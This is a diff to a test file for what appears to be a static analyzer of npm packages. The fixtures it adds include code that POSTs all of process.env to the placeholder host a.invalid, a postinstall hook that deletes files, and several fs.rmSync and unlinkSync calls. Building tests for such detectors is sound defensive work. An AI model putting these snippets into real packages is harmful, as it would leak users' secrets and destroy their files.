@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 
-import { symbolicUses } from '../../../test/symbolic-uses.ts';
+import { symbolicModule, symbolicUses } from '../../../test/symbolic-uses.ts';
 
 /** Ways in which the files of a package work together, and what comes of them. */
 const CASES: readonly {
@@ -90,6 +90,51 @@ const CASES: readonly {
     ],
   },
   {
+    when: 'a middleware of five steps hands on to the next one',
+    files: {
+      'index.js': `const steps = ['a', 'b', 'c', 'd', 'e'].map(name => next => { require('fs').rmSync(name); return next(); }); const run = at => steps[at] ? steps[at](() => run(at + 1)) : undefined; run(0);`,
+    },
+    says: ['a', 'b', 'c', 'd', 'e'].map(name => `import fs.rmSync(${name})`),
+  },
+  {
+    when: 'files are loaded by names that the manifest gives them, and hooks say themselves what is done',
+    files: {
+      'package.json': {
+        name: 'specimen',
+        version: '1.0.0',
+        main: 'index.js',
+        imports: { '#drop': './lib/drop.js' },
+        scripts: { postinstall: `node -e "require('./lib/drop')('c')"` },
+      },
+      'index.js': `require('#drop')('a'); require('./folder')('b');`,
+      'lib/drop.js': `module.exports = name => require('fs').rmSync(name);`,
+      'folder/package.json': { main: './own.js' },
+      'folder/own.js': `module.exports = require('../lib/drop');`,
+    },
+    says: ['install fs.rmSync(c)', 'import fs.rmSync(a)', 'import fs.rmSync(b)'],
+  },
+  {
+    when: 'the environment is spread out beside what somebody passes',
+    files: {
+      'index.js': `exports.send = more => fetch('https://a.invalid/', { method: 'POST', body: JSON.stringify({ ...process.env, ...more }) });`,
+    },
+    says: ['call fetch(https://a.invalid/, {method: POST, body: {*}}) from process.env'],
+  },
+  {
+    when: 'functions of the outside are handed on, and each is told where that is done',
+    files: {
+      'index.js': `const fs = require('fs'); ['a', 'b'].forEach(fs.unlinkSync); Promise.resolve('https://a.invalid/').then(fetch);`,
+    },
+    says: ['import fs.unlinkSync(a, 0, [a, b])', 'import fs.unlinkSync(b, 1, [a, b])', 'import fetch(https://a.invalid/)'],
+  },
+  {
+    when: 'a condition holds in one round, block or attempt alone',
+    files: {
+      'index.js': `const drop = name => require('fs').rmSync(name); try { for (const one of [1, 2]) { if (process.env.CI) continue; throw one; } } catch { drop('a'); } l: { if (process.env.CI) break l; } drop('b'); if (process.env.MODE === 'x') drop('c');`,
+    },
+    says: ['import fs.rmSync(a)', 'import fs.rmSync(b)', 'import fs.rmSync(c) where environment = MODE=x'],
+  },
+  {
     when: 'a table says what is done on which system, and the environment whether',
     files: {
       'index.js': `const os = require('os'), acts = require('./acts'); function go({ on, act, at }) { if (process.platform !== on) return; acts[act](at); } if (!process.env.CI) require('./all.json').forEach(go); if (process.argv[2] === 'clean') acts.drop('c');`,
@@ -109,6 +154,14 @@ const CASES: readonly {
 
 describe('going through a package step by step', () => {
   for (const { when, files, says } of CASES) it(`notes what is done when ${when}`, () => assert.deepEqual(symbolicUses(files), says));
+
+  it('tells each use at its place', () => {
+    const { uses } = symbolicModule({ 'index.js': `['a'].forEach(require('fs').unlinkSync);` });
+    assert.deepEqual(
+      uses.map(({ at }) => at),
+      [{ path: 'index.js', start: 0, end: 39 }],
+    );
+  });
 
   it('notes nothing of what the package does not do', () => {
     assert.deepEqual(
